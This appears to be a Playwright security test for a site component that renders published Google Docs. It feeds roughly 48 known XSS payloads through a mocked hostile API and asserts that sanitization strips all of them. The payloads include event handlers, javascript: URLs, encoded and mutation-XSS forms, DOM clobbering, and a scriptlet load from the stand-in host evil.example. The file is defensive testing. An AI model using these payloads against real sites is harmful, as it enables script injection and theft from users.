import { expect, test } from "@playwright/test";
import { HOST_ORIGIN, openHostPage, servicesConfig } from "@marketing/e2e/host-page";
import { API_URL } from "@marketing/e2e/urls";

const SLUG = "fault-detection-rules-air-handling-units";
const X = "top.__xss(1)";

/** Known XSS vectors (OWASP filter-evasion cheat sheet, DOMPurify's and html5sec's test cases). */
const VECTORS = [
  `<script>${X}</script>`,
  `<script src="data:text/javascript,${X}"></script>`,
  `<img src=x onerror="${X}">`,
  `<img src="x" onerror=${X}//>`,
  `<IMG SRC=x OnErRoR="${X}">`,
  `<img src=x:x onerror=eval(atob('dG9wLl9feHNzKDEp'))>`,
  `<svg onload="${X}"></svg>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><animate onbegin="${X}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">svg link</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${X}"></style></mglyph></table></mtext></math>`,
  `<body onload="${X}">`,
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="<script>${X}</script>"></iframe>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="javascript:${X}">`,
  `<a href="javascript:${X}">js link</a>`,
  `<a href="JaVaScRiPt:${X}">mixed case</a>`,
  `<a href=" &#14; javascript:${X}">control char</a>`,
  `<a href="jav&#x09;ascript:${X}">tab</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">entities</a>`,
  `<a href="https://www.google.com/url?q=javascript:${X}&amp;sa=D">redirect to js</a>`,
  `<a href="https://www.google.com/url?q=javascript%3A${encodeURIComponent(X)}&amp;sa=D">encoded redirect</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD50b3AuX194c3MoMSk8L3NjcmlwdD4=">data link</a>`,
  `<form action="javascript:${X}"><button>go</button></form>`,
  `<form><button formaction="javascript:${X}">x</button></form>`,
  `<input autofocus onfocus="${X}">`,
  `<select autofocus onfocus="${X}"></select>`,
  `<textarea autofocus onfocus="${X}"></textarea>`,
  `<details open ontoggle="${X}"><summary>t</summary></details>`,
  `<video><source onerror="${X}"></video>`,
  `<audio src=x onerror="${X}"></audio>`,
  `<div onmouseover="${X}" style="position:fixed;inset:0">overlay</div>`,
  `<p style="background:url(javascript:${X})">css url</p>`,
  `<marquee onstart="${X}">m</marquee>`,
  `<isindex action="javascript:${X}" type=image>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<base href="javascript:${X}//">`,
  `<link rel="stylesheet" href="javascript:${X}">`,
  `<style>@import "javascript:${X}";</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>"></noscript>`,
  `<template><img src=x onerror="${X}"></template>`,
  `<img src="x" onerror="${X}" /><!--<img src="--><img src=x onerror=${X}//">`,
  `<table background="javascript:${X}"><tr><td>t</td></tr></table>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
  `<button form="f" formaction="javascript:${X}">b</button>`,
  `<a id="__xssTrapClobber" name="cookie">clobber</a><form name="getElementById"></form>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
];

test("no vector in a published document survives the document pipeline", async ({ page }) => {
  expect(VECTORS.length).toBeGreaterThanOrEqual(40);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const body = `<p>Marker paragraph before the vectors.</p>${VECTORS.map((v, i) => `<div data-vector="${i}">${v}</div>`).join("\n")}<p>Marker paragraph after the vectors.</p>`;
  // Shaped like a published doc: Google's own script and style, then the vectors inside #contents.
  const malicious = `<!DOCTYPE html><html><head><title>Evil</title><style>body{}</style><script>document.documentElement.setAttribute("data-published-doc-script","ran")</script></head><body><div id="banners">Published using Google Docs</div><div id="contents"><script>document.documentElement.setAttribute("data-published-doc-script","ran")</script>${body}</div></body></html>`;
  // A hostile answer where the document should be (a compromised document or API).
  await page.route(`${API_URL}/docs?**`, (route) =>
    route.fulfill({
      status: 200,
      contentType: "text/html; charset=utf-8",
      headers: { "access-control-allow-origin": HOST_ORIGIN },
      body: malicious,
    }),
  );
  await openHostPage(page, {
    head: `<script>window.__xssHits = []; window.__xss = (n) => window.__xssHits.push(n);</script>${servicesConfig()}`,
    body: `<blog-post slug="${SLUG}"></blog-post>`,
    scripts: ["blog-post.js"],
  });

  const doc = page.locator("blog-post .mw-doc");
  await expect(doc).toContainText("Marker paragraph after the vectors.");
  // Give image errors, autofocus and animations time to fire.
  await page.mouse.move(200, 300);
  await page.waitForTimeout(1_500);

  const report = await page.evaluate(() => {
    const root = document.querySelector("blog-post")!.shadowRoot!.querySelector(".mw-doc")!;
    const all = Array.from(root.querySelectorAll("*"));
    return {
      hits: (window as unknown as { __xssHits: unknown[] }).__xssHits,
      docScriptRan: document.documentElement.getAttribute("data-published-doc-script"),
      handlers: all.flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => /^on/i.test(a.name))
          .map((a) => `${el.tagName}[${a.name}]`),
      ),
      jsUrls: all.flatMap((el) =>
        Array.from(el.attributes)
          .filter(
            (a) =>
              /^\s*(javascript|data|vbscript):/i.test(a.value.replace(/[\s\p{Cc}]/gu, "")) &&
              a.name !== "data-vector",
          )
          .map((a) => `${el.tagName}[${a.name}=${a.value}]`),
      ),
      forbidden: all
        .filter((el) =>
          /^(SCRIPT|IFRAME|FRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|SELECT|TEXTAREA|STYLE|LINK|META|BASE|SVG|MATH|TEMPLATE)$/i.test(
            el.tagName,
          ),
        )
        .map((el) => el.tagName),
      styles: all.filter((el) => el.hasAttribute("style")).length,
      clobbered: typeof document.getElementById,
    };
  });
  expect(report.hits).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(report.docScriptRan).toBeNull();
  expect(report.handlers).toEqual([]);
  expect(report.jsUrls).toEqual([]);
  expect(report.forbidden).toEqual([]);
  expect(report.styles).toBe(0);
  expect(report.clobbered).toBe("function");
});
